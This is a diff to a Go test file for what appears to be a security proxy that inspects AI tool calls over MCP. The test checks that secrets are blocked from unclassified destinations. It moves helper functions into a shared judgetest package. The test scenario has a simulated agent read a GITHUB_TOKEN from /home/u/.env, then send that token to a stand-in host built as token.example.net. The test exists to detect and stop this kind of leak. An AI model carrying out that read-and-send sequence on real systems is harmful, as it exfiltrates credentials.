@@ -6,6 +6,7 @@ import (
 	"github.com/stretchr/testify/assert"
 	"github.com/stretchr/testify/require"
 
+	"github.com/flowd-dev/flowd/internal/judge/judgetest"
 	"github.com/flowd-dev/flowd/internal/shimproto"
 )
 
@@ -35,7 +36,7 @@ func TestUnclassifiedDestinationsGetNoSecrets(t *testing.T) {
 			d := newEnv(t, nil)
 			session := "s" + string(rune('a'+i))
 			fs := NewStream(1, shimproto.Hello{Name: "server-filesystem"}, session)
-			require.Equal(t, shimproto.Pass, callAndAnswer(d, fs, 1, "read_text_file", `{"path":"/home/u/.env"}`, "GITHUB_TOKEN="+token).Action)
+			require.Equal(t, shimproto.Pass, judgetest.CallAndAnswer(d.judge, fs, 1, "read_text_file", `{"path":"/home/u/.env"}`, "GITHUB_TOKEN="+token).Action)
 			dst := NewStream(2, tt.hello, session)
 			if tt.init != "" {
 				judgeMsg(d, dst, msg(c2s, `{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-11-25"}}`))
@@ -45,12 +46,12 @@ func TestUnclassifiedDestinationsGetNoSecrets(t *testing.T) {
 				judgeMsg(d, dst, msg(c2s, `{"jsonrpc":"2.0","id":2,"method":"tools/list"}`))
 				judgeMsg(d, dst, msg(s2c, `{"jsonrpc":"2.0","id":2,"result":`+tt.tools+`}`))
 			}
-			v := callAndAnswer(d, dst, 3, tt.tool, `{"host":"`+token+`.example.net","body":"`+token+`"}`, "ok")
+			v := judgetest.CallAndAnswer(d.judge, dst, 3, tt.tool, `{"host":"`+token+`.example.net","body":"`+token+`"}`, "ok")
 			if !tt.deny {
 				assert.Equal(t, shimproto.Pass, v.Action)
 				return
 			}
-			text := blockedText(t, v)
+			text := judgetest.BlockedText(t, v)
 			assert.Contains(t, text, "Sensitive data")
 		})
 	}
